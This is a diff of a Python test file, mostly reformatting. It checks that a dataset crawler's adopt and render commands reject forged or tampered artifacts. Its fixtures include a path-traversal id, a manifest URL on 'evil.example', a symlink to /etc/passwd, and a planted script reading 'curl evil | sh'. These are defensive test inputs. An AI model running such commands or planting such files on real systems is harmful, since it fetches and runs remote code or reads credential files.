@@ -28,8 +28,13 @@ def dataset_of(root: Path) -> Path:
     return root / "output" / "acme" / "widgets"
 
 
-def forge(root: Path, record: Edit | None = None, manifest: Edit | None = None, documents: Edit | None = None,
-          lines: Callable[[list[bytes]], list[bytes]] | None = None) -> None:
+def forge(
+    root: Path,
+    record: Edit | None = None,
+    manifest: Edit | None = None,
+    documents: Edit | None = None,
+    lines: Callable[[list[bytes]], list[bytes]] | None = None,
+) -> None:
     """Edit the artifact's dataset as a forger would: the first record in errors.jsonl.gz and
     its errors/<id>.json alike, the manifest, index.json and search.json (``documents``: each
     one's top-level object), then the manifest's content_digest made again over the files."""
@@ -81,20 +86,23 @@ FORGERIES: dict[str, tuple[dict, str]] = {
     "a permalink to another host": (dict(record=_permalink_elsewhere), "is not on the repository's host github.com"),
     "a provenance of another repository": (dict(record=_provenance_elsewhere), "provenance names evil/other"),
     "an id twice": (dict(lines=_twice), "errors.jsonl.gz:14: id"),
-    "an id that is a path": (dict(record=lambda r: r.__setitem__("id", "../../../etc/x")), "#/id: \"../../../etc/x\" does not match"),
-    "a manifest of another host": (dict(manifest=lambda m: m["repo"].__setitem__("url", "https://evil.example/acme/widgets")),
-                                   "names https://evil.example/acme/widgets"),
+    "an id that is a path": (dict(record=lambda r: r.__setitem__("id", "../../../etc/x")), '#/id: "../../../etc/x" does not match'),
+    "a manifest of another host": (
+        dict(manifest=lambda m: m["repo"].__setitem__("url", "https://evil.example/acme/widgets")),
+        "names https://evil.example/acme/widgets",
+    ),
 }
 
 LIES: dict[str, tuple[dict, str]] = {
-    "entries 99,999 for 13": (dict(manifest=lambda m: m["counts"].__setitem__("entries", 99_999)),
-                              "counts.entries is 99,999, but errors.jsonl.gz holds 13 live record(s)"),
+    "entries 99,999 for 13": (
+        dict(manifest=lambda m: m["counts"].__setitem__("entries", 99_999)),
+        "counts.entries is 99,999, but errors.jsonl.gz holds 13 live record(s)",
+    ),
     "retired 5 for none": (dict(manifest=lambda m: m["counts"].__setitem__("retired", 5)), "counts.retired is 5"),
     "skipped 3 for an empty list": (dict(manifest=lambda m: m["counts"].__setitem__("skipped", 3)), "counts.skipped is 3"),
     "commit 000...0": (dict(manifest=_commit("0" * 40)), "index.json: its commit cccccccccccc"),
     "commit 000...0 in every document": (dict(manifest=_commit("0" * 40), documents=_commit("0" * 40)), "(git's null id)"),
-    "another commit of the records' date": (dict(record=lambda r: r["provenance"].__setitem__("commit_date", "2020-01-01T00:00:00+00:00")),
-                                            "dated 2020-01-01"),
+    "another commit of the records' date": (dict(record=lambda r: r["provenance"].__setitem__("commit_date", "2020-01-01T00:00:00+00:00")), "dated 2020-01-01"),
 }
 
 
@@ -127,8 +135,7 @@ def test_adopt_refuses_a_manifest_that_lies_about_its_records(cli, artifact, che
     _refused(cli, artifact, checkout, tmp_path, monkeypatch, words)
 
 
-@pytest.mark.parametrize("name", ["a record of another repository", "a permalink to another host", "an id twice",
-                                  "entries 99,999 for 13", "commit 000...0"])
+@pytest.mark.parametrize("name", ["a record of another repository", "a permalink to another host", "an id twice", "entries 99,999 for 13", "commit 000...0"])
 def test_render_refuses_what_adopt_refuses_with_the_same_line(cli, artifact, tmp_path, name):
     """One reader: a forged catalogue that reached output/ some other way is refused by render
     with the very line adopt gives, and no site is written."""
@@ -157,8 +164,7 @@ def test_a_good_artifact_is_still_adopted_after_every_check(cli, artifact, check
 # --------------------------------------------------------------------------- drafts beside the dataset
 
 
-def _with_draft(artifact: Path, *, status: str = "draft", carried: bool = True, entry_id: str | None = None,
-                where: str = "acme/widgets") -> Path:
+def _with_draft(artifact: Path, *, status: str = "draft", carried: bool = True, entry_id: str | None = None, where: str = "acme/widgets") -> Path:
     """The first record drafted by ``fake-model`` as the sync writes it: its file under
     curated/<where>/ and (``carried``) the record carrying it as machine-written."""
     from crawler.curate.draft_all import draft_text
@@ -173,6 +179,7 @@ def _with_draft(artifact: Path, *, status: str = "draft", carried: bool = True, 
         body["id"] = entry_id
     entry = CuratedFile.model_validate(body)
     if carried:
+
         def carry(r: dict) -> None:
             r["explanation_status"] = "draft"
             r["explanation"]["what_it_means"] = "What a model wrote about it."
@@ -193,8 +200,7 @@ DRAFTS: dict[str, tuple[Callable[[Path], object], str]] = {
     "a draft that is not YAML": (lambda a: _with_draft(a).write_text("id: [unclosed\n"), "is not a curated file a crawl reads"),
     "a draft that is a symlink": (lambda a: (lambda p: (p.unlink(), p.symlink_to("/etc/passwd")))(_with_draft(a)), "is not a regular file"),
     "a script among the drafts": (lambda a: (_with_draft(a).parent / "run.sh").write_text("curl evil | sh\n"), "is not a file a dataset has"),
-    "a draft nested too deeply": (lambda a: _with_draft(a).write_text("what_it_means: " + "[" * 200 + "]" * 200 + "\n"),
-                                  "is not a curated file a crawl reads"),
+    "a draft nested too deeply": (lambda a: _with_draft(a).write_text("what_it_means: " + "[" * 200 + "]" * 200 + "\n"), "is not a curated file a crawl reads"),
 }
 
 
